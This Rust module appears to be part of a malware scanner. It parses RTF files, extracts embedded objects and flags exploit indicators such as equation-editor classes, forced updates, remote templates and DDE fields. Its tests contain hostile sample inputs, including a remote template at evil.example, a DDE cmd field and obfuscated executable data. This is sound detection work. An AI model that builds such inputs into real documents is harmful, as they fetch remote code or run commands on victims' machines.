//! RTF read as Word reads it, not as it is specified: broken groups, split hexadecimal digits,
//! `\bin` and unknown destinations included.
//!
//! Groups are counted and never recursed into. Runs of hexadecimal digits in any destination become
//! octets to look at. Start with [`read`].

use std::borrow::Cow;

use super::cursor::{code_page, shown};
use super::fields;
use super::gathered::{Gathered, is_program};
use super::{native, ole};
use crate::fact::FactKind;
use crate::limits;

/// Whether octets begin as Word wants RTF to begin.
pub(crate) fn is_rtf(octets: &[u8]) -> bool {
    octets.trim_ascii_start().starts_with(b"{\\rt")
}

/// Reads an RTF file.
pub(crate) fn read(octets: &[u8]) -> Gathered<'_> {
    let mut reader = Reader::new(octets);
    while let Some(octet) = reader.next() {
        match octet {
            b'{' => reader.open(),
            b'}' => reader.close(),
            b'\\' => reader.control(),
            b'\r' | b'\n' | 0 => {}
            other => reader.character(other),
        }
    }
    reader.end()
}

/// What text of a group is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Into {
    Text,
    /// Digits of an object or of some binary data.
    Digits,
    Instruction,
    Class,
    Template,
    Nothing,
}

#[derive(Debug, Clone, Copy)]
struct Group {
    into: Into,
    is_hidden: bool,
    /// Characters that stand for one given by number, to be stepped over.
    stand_ins: usize,
}

/// Octets of digits.
#[derive(Debug, Default)]
struct Digits {
    octets: Vec<u8>,
    half: Option<u8>,
    is_object: bool,
    /// Something else than digits stands among them.
    is_spoiled: bool,
    /// The same with half octets dropped at `\'`, which some readers do.
    other: Option<Vec<u8>>,
    other_half: Option<u8>,
    /// Depth of its group.
    depth: usize,
}

impl Digits {
    fn digit(&mut self, value: u8) {
        add(&mut self.octets, &mut self.half, value);
        if let Some(other) = &mut self.other {
            add(other, &mut self.other_half, value);
        }
    }

    fn raw(&mut self, octets: &[u8]) {
        self.octets.extend_from_slice(octets);
        if let Some(other) = &mut self.other {
            other.extend_from_slice(octets);
        }
    }
}

fn add(octets: &mut Vec<u8>, half: &mut Option<u8>, value: u8) {
    match half.take() {
        Some(high) => octets.push(high << 4 | value),
        None => *half = Some(value),
    }
}

struct Reader<'a> {
    octets: &'a [u8],
    at: usize,
    groups: Vec<Group>,
    /// Groups deeper than are kept.
    deeper: usize,
    is_starred: bool,
    skip: usize,
    page: u16,
    waiting: Vec<u8>,
    waits_hidden: bool,
    instruction: String,
    class: String,
    template: String,
    digits: Option<Digits>,
    objects: usize,
    gathered: Gathered<'a>,
}

impl<'a> Reader<'a> {
    fn new(octets: &'a [u8]) -> Self {
        let group = Group { into: Into::Text, is_hidden: false, stand_ins: 1 };
        Reader {
            octets,
            at: 0,
            groups: vec![group],
            deeper: 0,
            is_starred: false,
            skip: 0,
            page: 1252,
            waiting: Vec::new(),
            waits_hidden: false,
            instruction: String::new(),
            class: String::new(),
            template: String::new(),
            digits: None,
            objects: 0,
            gathered: Gathered::default(),
        }
    }

    fn next(&mut self) -> Option<u8> {
        let octet = self.octets.get(self.at).copied()?;
        self.at += 1;
        Some(octet)
    }

    fn peek(&self) -> Option<u8> {
        self.octets.get(self.at).copied()
    }

    fn group(&self) -> Group {
        let outside = Group { into: Into::Text, is_hidden: false, stand_ins: 1 };
        self.groups.last().copied().unwrap_or(outside)
    }

    fn change(&mut self, change: impl FnOnce(&mut Group)) {
        if let Some(group) = self.groups.last_mut() {
            change(group);
        }
    }

    fn open(&mut self) {
        self.is_starred = false;
        if self.groups.len() >= limits::RTF_GROUPS {
            self.deeper = self.deeper.saturating_add(1);
            self.gathered.over = Some("more groups inside one another than are followed");
        } else {
            self.groups.push(self.group());
        }
    }

    fn close(&mut self) {
        self.is_starred = false;
        if self.deeper > 0 {
            self.deeper -= 1;
            return;
        }
        if self.groups.len() > 1 {
            let closed = self.groups.pop();
            let now = self.group().into;
            match closed.map(|group| group.into).filter(|before| *before != now) {
                Some(Into::Instruction) => self.end_instruction(),
                Some(Into::Template) => self.end_template(),
                _ => {}
            }
        }
        if self.digits.as_ref().is_some_and(|digits| digits.depth > self.groups.len()) {
            self.end_digits();
        }
    }

    /// A control word or symbol, behind its backslash.
    fn control(&mut self) {
        let Some(first) = self.next() else { return };
        match first {
            b'*' => self.is_starred = true,
            b'\'' => self.escaped(),
            b'{' | b'}' | b'\\' => self.character(first),
            b'~' => self.character(b' '),
            b'\r' | b'\n' => self.end_line(),
            letter if letter.is_ascii_alphabetic() => {
                self.at -= 1;
                let (word, number) = self.word();
                self.act(word, number);
                self.is_starred = false;
            }
            _ => {}
        }
    }

    fn escaped(&mut self) {
        let digit = |octet: Option<u8>| octet.and_then(|one| char::from(one).to_digit(16));
        let high = digit(self.peek());
        let low = digit(self.octets.get(self.at + 1).copied());
        let (Some(high), Some(low)) = (high, low) else { return };
        self.at += 2;
        let value = u8::try_from(high * 16 + low).unwrap_or_default();
        if self.group().into == Into::Digits {
            if let Some(digits) = &mut self.digits {
                digits.other.get_or_insert_with(|| digits.octets.clone());
                digits.other_half = None;
            }
            return;
        }
        self.character(value);
    }

    /// A word of letters, its number, and the space that ends it.
    fn word(&mut self) -> (&'a [u8], Option<i64>) {
        let rest = self.octets.get(self.at..).unwrap_or_default();
        let letters = rest.iter().take_while(|one| one.is_ascii_alphabetic()).count();
        let (word, rest) = rest.split_at_checked(letters).unwrap_or((rest, &[]));
        let minus = usize::from(rest.first() == Some(&b'-'));
        let digits = rest.iter().skip(minus).take_while(|one| one.is_ascii_digit()).count();
        let number = rest.get(minus..minus + digits).filter(|text| !text.is_empty()).map(|text| {
            text.iter().fold(0_i64, |sum, digit| {
                sum.saturating_mul(10).saturating_add(i64::from(digit - b'0'))
            })
        });
        let number = number.map(|number| if minus == 1 { number.saturating_neg() } else { number });
        let used = if digits > 0 { minus + digits } else { 0 };
        self.at += letters + used;
        if self.peek() == Some(b' ') {
            self.at += 1;
        }
        (word, number)
    }

    fn act(&mut self, word: &[u8], number: Option<i64>) {
        match word {
            b"bin" => self.binary(number.unwrap_or_default()),
            b"u" => self.by_number(number.unwrap_or_default()),
            b"uc" => {
                let count = usize::try_from(number.unwrap_or(1)).unwrap_or(1).min(16);
                self.change(|group| group.stand_ins = count);
            }
            b"ansicpg" => {
                self.page = number.and_then(|one| u16::try_from(one).ok()).unwrap_or(self.page)
            }
            b"v" => self.hide(number != Some(0)),
            b"fs" => self.hide(number.is_some_and(|half_points| (0..=3).contains(&half_points))),
            b"plain" => self.hide(false),
            b"par" | b"line" | b"row" | b"page" | b"sect" => self.end_line(),
            b"tab" | b"cell" | b"emspace" | b"enspace" => self.character(b' '),
            b"objupdate" => {
                self.fact(FactKind::RtfExploit, "an object that is updated when the file opens")
            }
            b"objautlink" | b"objlink" => self.fact(FactKind::ExternalLink, "a linked object"),
            b"object" | b"objemb" => self.fact(FactKind::EmbeddedObject, "an embedded object"),
            b"objocx" => self.fact(FactKind::ActiveX, "a control"),
            b"objdata" => self.begin_digits(true),
            b"objclass" => {
                self.class.clear();
                self.change(|group| group.into = Into::Class);
            }
            b"fldinst" => {
                self.flush();
                self.change(|group| group.into = Into::Instruction);
            }
            b"fldrslt" => self.change(|group| group.into = Into::Text),
            b"template" => {
                self.template.clear();
                self.change(|group| group.into = Into::Template);
            }
            b"pict"
            | b"datastore"
            | b"themedata"
            | b"colorschememapping"
            | b"fontemb"
            | b"passwordhash" => self.begin_digits(false),
            b"fonttbl" | b"colortbl" | b"stylesheet" | b"info" | b"listtable" | b"generator"
            | b"listoverridetable" | b"rsidtbl" | b"xmlnstbl" | b"latentstyles" | b"pgptbl"
            | b"revtbl" => self.ignore(),
            b"shppict" | b"nonshppict" | b"shpinst" | b"shptxt" | b"hlinkbase" | b"upr" | b"ud"
            | b"result" | b"background" | b"sp" | b"sn" | b"sv" | b"field" | b"do" | b"header"
            | b"footer" | b"footnote" => {}
            _ if self.is_starred => self.unknown(),
            _ => {}
        }
    }

    /// A destination that readers step over; it may hold digits all the same.
    fn unknown(&mut self) {
        match self.group().into {
            Into::Digits => self.change(|group| group.into = Into::Nothing),
            _ => self.begin_digits(false),
        }
    }

    fn ignore(&mut self) {
        if self.group().into == Into::Text {
            self.change(|group| group.into = Into::Nothing);
        }
    }

    fn fact(&mut self, kind: FactKind, evidence: &str) {
        self.gathered.fact(kind, evidence);
    }

    fn hide(&mut self, is_hidden: bool) {
        self.change(|group| group.is_hidden = is_hidden);
    }

    fn begin_digits(&mut self, is_object: bool) {
        self.end_digits();
        self.change(|group| group.into = Into::Digits);
        self.digits = Some(Digits { is_object, depth: self.groups.len(), ..Digits::default() });
    }

    fn character(&mut self, octet: u8) {
        if self.skip > 0 {
            self.skip -= 1;
            return;
        }
        let group = self.group();
        match group.into {
            Into::Text => {
                if self.waits_hidden != group.is_hidden {
                    self.flush();
                    self.waits_hidden = group.is_hidden;
                }
                self.waiting.push(octet);
            }
            Into::Digits => self.digit(octet),
            Into::Instruction => push(&mut self.instruction, char::from(octet)),
            Into::Class => push(&mut self.class, char::from(octet)),
            Into::Template => push(&mut self.template, char::from(octet)),
            Into::Nothing => {}
        }
    }

    fn digit(&mut self, octet: u8) {
        let Some(digits) = &mut self.digits else { return };
        match char::from(octet).to_digit(16).and_then(|value| u8::try_from(value).ok()) {
            Some(value) => digits.digit(value),
            None if octet.is_ascii_whitespace() => {}
            None => {
                digits.is_spoiled = true;
                // Words and not digits: nothing of it is kept.
                if !digits.is_object {
                    digits.octets.clear();
                }
            }
        }
    }

    fn binary(&mut self, count: i64) {
        let rest = self.octets.get(self.at..).unwrap_or_default();
        let count = usize::try_from(count).unwrap_or_default().min(rest.len());
        let octets = rest.get(..count).unwrap_or_default();
        self.at += count;
        if self.group().into == Into::Digits
            && let Some(digits) = &mut self.digits
        {
            return digits.raw(octets);
        }
        if octets.len() >= limits::PAYLOAD_OCTETS {
            self.gathered.payload("binary", Cow::Borrowed(octets));
        }
    }

    /// A character by its number; what stands behind it is for readers that do not know it.
    fn by_number(&mut self, number: i64) {
        let code = u32::try_from(number.rem_euclid(65_536)).unwrap_or_default();
        let group = self.group();
        self.skip = group.stand_ins;
        let Some(one) = char::from_u32(code) else { return };
        match group.into {
            Into::Text => {
                self.flush();
                if group.is_hidden {
                    self.gathered.hidden.push_char(one);
                } else {
                    self.gathered.visible.push_char(one);
                }
            }
            Into::Instruction => push(&mut self.instruction, one),
            Into::Template => push(&mut self.template, one),
            Into::Class => push(&mut self.class, one),
            Into::Digits | Into::Nothing => {}
        }
    }

    fn end_line(&mut self) {
        if self.group().into == Into::Text {
            self.flush();
            self.gathered.visible.end_line();
        }
    }

    fn flush(&mut self) {
        if self.waiting.is_empty() {
            return;
        }
        let text = code_page(&self.waiting, self.page);
        self.waiting.clear();
        if self.waits_hidden {
            self.gathered.hidden.push(&text);
        } else {
            self.gathered.visible.push(&text);
        }
    }

    fn end_instruction(&mut self) {
        let instruction = std::mem::take(&mut self.instruction);
        fields::judge(&instruction, &mut self.gathered);
    }

    fn end_template(&mut self) {
        let template = std::mem::take(&mut self.template);
        if fields::is_remote(&template) {
            let evidence = format!("the template {}", shown(template.trim(), 200));
            self.fact(FactKind::ExternalTemplate, &evidence);
            self.gathered.link(&template);
        }
    }

    fn end_digits(&mut self) {
        let Some(digits) = self.digits.take() else { return };
        let is_enough = digits.octets.len() >= limits::PAYLOAD_OCTETS;
        if !digits.is_object {
            if is_enough && !digits.is_spoiled {
                self.gathered.payload("data", Cow::Owned(digits.octets));
            }
            return;
        }
        self.objects = self.objects.saturating_add(1);
        if self.objects > limits::RTF_OBJECTS {
            self.gathered.over = Some("more objects than are looked at");
            return;
        }
        if let Some(other) = digits.other.filter(|other| *other != digits.octets) {
            self.object(other);
        }
        self.object(digits.octets);
    }

    /// An object: its class, its link, or what it holds.
    fn object(&mut self, octets: Vec<u8>) {
        let known = native::object(&octets);
        let class = known.as_ref().map(|object| object.class.clone()).unwrap_or_default();
        let class = if class.is_empty() { self.class.trim().to_owned() } else { class };
        self.class_fact(&class);
        if let Some(target) =
            known.as_ref().map(|object| &object.target).filter(|one| !one.is_empty())
        {
            let evidence = format!("an object linked to {}", shown(target, 200));
            self.fact(FactKind::ExternalLink, &evidence);
            self.gathered.link(target);
        }
        let inner = known.map_or(octets.as_slice(), |object| object.octets);
        if class.eq_ignore_ascii_case("package")
            && let Some(package) = native::package(inner)
        {
            return self.package(&package);
        }
        let start = memchr::memmem::find(inner, &ole::MAGIC);
        let inner = start.and_then(|at| inner.get(at..)).unwrap_or(inner);
        let whole = if inner.is_empty() || start.is_none() { octets.as_slice() } else { inner };
        self.gathered.payload(name(&class), Cow::Owned(whole.to_vec()));
        if start.is_none() && !inner.is_empty() && inner.len() < octets.len() {
            self.gathered.payload(name(&class), Cow::Owned(inner.to_vec()));
        }
    }

    fn package(&mut self, package: &native::Package<'_>) {
        if is_program(&package.name, package.octets) {
            let evidence = format!("the file {}", shown(&package.name, 200));
            self.fact(FactKind::EmbeddedExecutable, &evidence);
        }
        if !package.is_whole {
            self.gathered.damage = Some("a packaged file is cut off");
        }
        self.gathered.payload(package.name.clone(), Cow::Owned(package.octets.to_vec()));
    }

    fn class_fact(&mut self, class: &str) {
        let lower = class.to_ascii_lowercase();
        let shown = shown(class, 60);
        self.fact(FactKind::EmbeddedObject, &format!("an object of class {shown}"));
        let exploited = ["equation", "otkloadr", "ole2link", "msolelink", "shell.explorer"];
        if exploited.iter().any(|name| lower.contains(name)) {
            self.fact(FactKind::RtfExploit, &format!("an object of class {shown}"));
        }
    }

    fn end(mut self) -> Gathered<'a> {
        let is_open = self.groups.len() > 1;
        self.flush();
        self.end_digits();
        self.end_instruction();
        self.end_template();
        if is_open {
            self.gathered.damage = Some("the file ends inside a group");
        }
        if !self.gathered.hidden.is_blank() {
            let words = format!("hidden: {}", shown(self.gathered.hidden.as_str().trim(), 80));
            self.fact(FactKind::HiddenText, &words);
        }
        self.gathered
    }
}

fn name(class: &str) -> String {
    if class.is_empty() { "object".to_owned() } else { shown(class, 60) }
}

fn push(text: &mut String, one: char) {
    if text.len() < limits::FIELD_OCTETS {
        text.push(one);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(octets: &[u8]) -> String {
        octets.iter().map(|octet| format!("{octet:02x}")).collect()
    }

    fn embedded(class: &str, data: &[u8]) -> Vec<u8> {
        let mut made = vec![1, 5, 0, 0, 2, 0, 0, 0];
        made.extend(u32::try_from(class.len() + 1).unwrap().to_le_bytes());
        made.extend(class.bytes());
        made.extend([0; 9]);
        made.extend(u32::try_from(data.len()).unwrap().to_le_bytes());
        made.extend(data);
        made
    }

    fn payloads(rtf: &str) -> Vec<Vec<u8>> {
        let gathered = read(rtf.as_bytes());
        gathered.payloads.iter().map(|payload| payload.octets.to_vec()).collect()
    }

    #[test]
    fn text_is_read_and_tables_are_not() {
        let gathered = read(b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}Hello\\par w\\'f6rld \\u8364?\\u-10179?{\\v secret}}");
        assert_eq!(gathered.visible.as_str(), "Hello\nwörld €");
        assert_eq!(gathered.hidden.as_str(), "secret");
    }

    #[test]
    fn an_object_is_found_behind_every_known_disguise() {
        let secret = [b"MZ".as_slice(), &[7; 70]].concat();
        let digits = hex(&embedded("foo", &secret));
        let spaced: String = digits.chars().flat_map(|one| [one, ' ', '\n']).collect();
        let grouped = format!("{}{{\\*\\foo 1234}}{}", &digits[..9], &digits[9..]);
        let worded = format!("{}\\foo1234 {}", &digits[..21], &digits[21..]);
        let noisy = format!("{}zq_{}", &digits[..21], &digits[21..]);
        for form in [digits.clone(), spaced, grouped, worded, noisy, digits.to_uppercase()] {
            let rtf = format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {form}}}}}}}");
            let found = payloads(&rtf).iter().any(|one| one.windows(72).any(|run| run == secret));
            assert!(found, "{rtf}");
        }
    }

    #[test]
    fn raw_octets_behind_bin_are_part_of_the_object() {
        let secret = [b'{'; 72];
        let object = embedded("foo", &secret);
        let mut rtf = b"{\\rtf1{\\object{\\*\\objdata\\bin".to_vec();
        rtf.extend(format!("{} ", object.len()).bytes());
        rtf.extend(&object);
        rtf.extend(b"}}}");
        let gathered = read(&rtf);
        assert!(
            gathered.payloads.iter().any(|one| one.octets.windows(72).any(|run| run == secret))
        );
    }

    #[test]
    fn digits_in_an_unknown_destination_are_looked_at() {
        let rtf = format!("{{\\rtf1{{\\*\\blob {}}}}}", hex(&[b'A'; 80]));
        assert_eq!(payloads(&rtf), [vec![b'A'; 80]]);
    }

    #[test]
    fn an_equation_object_and_a_forced_update_are_told() {
        let data = hex(&embedded("EQuaTion.3", &[1; 50]));
        let rtf = format!("{{\\rt{{\\object\\objupdate{{\\*\\objdata {data}}}}}}}");
        let gathered = read(rtf.as_bytes());
        let exploits = gathered.facts.iter().filter(|(kind, _)| *kind == FactKind::RtfExploit);
        assert_eq!(exploits.count(), 2);
    }

    #[test]
    fn a_remote_template_and_a_dde_field_are_told() {
        let rtf = b"{\\rtf1{\\*\\template https://evil.example/a.dot}{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\cmd x}}}}";
        let kinds: Vec<FactKind> = read(rtf).facts.iter().map(|(kind, _)| *kind).collect();
        assert_eq!(kinds, [FactKind::ExternalTemplate, FactKind::Dde]);
    }

    #[test]
    fn a_file_that_ends_inside_a_group_is_damaged() {
        assert!(read(b"{\\rtf1 {abc").damage.is_some());
        assert!(read(b"{\\rtf1 {abc}}").damage.is_none());
    }

    #[test]
    fn a_million_groups_cost_no_more_than_their_octets() {
        let deep =
            [b"{\\rtf1 ".to_vec(), vec![b'{'; 1_000_000], vec![b'}'; 1_000_000], b"end}".to_vec()]
                .concat();
        let gathered = read(&deep);
        assert!(gathered.over.is_some());
        assert!(gathered.visible.as_str().contains("end"));
    }
}
